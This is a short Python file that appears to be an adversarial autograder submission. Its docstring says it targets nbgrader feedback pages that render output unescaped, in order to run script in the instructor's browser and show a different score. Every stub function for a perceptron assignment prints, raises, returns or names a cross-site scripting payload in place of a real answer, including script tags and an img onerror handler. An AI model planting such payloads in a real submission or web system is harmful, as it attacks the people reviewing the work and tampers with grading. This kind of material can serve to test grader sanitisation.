"""Tries: HTML and script in messages, names, printed text and returned strings, for the feedback page.
Gain: script in the instructor's browser, a page that shows another score.
Known from: nbgrader feedback pages show outputs as they are.
"""
print("<script>alert('load')</script>")


class Evil(ValueError):
    pass


Evil.__name__ = "<img src=x onerror=alert(1)>"
Evil.__qualname__ = Evil.__name__


def perceptron_predict(X, w, b):
    print("<script>alert('print')</script>")
    raise Evil("</pre></table><script>alert('message')</script>")


def perceptron_step(w, b, x, y, lr=1.0):
    return "<script>alert('value')</script>"


def perceptron_epoch(*args, **kwargs):
    return type("<script>alert('type')</script>", (), {})()


def novikoff_bound(*args):
    return {"<script>alert('key')</script>": 1}
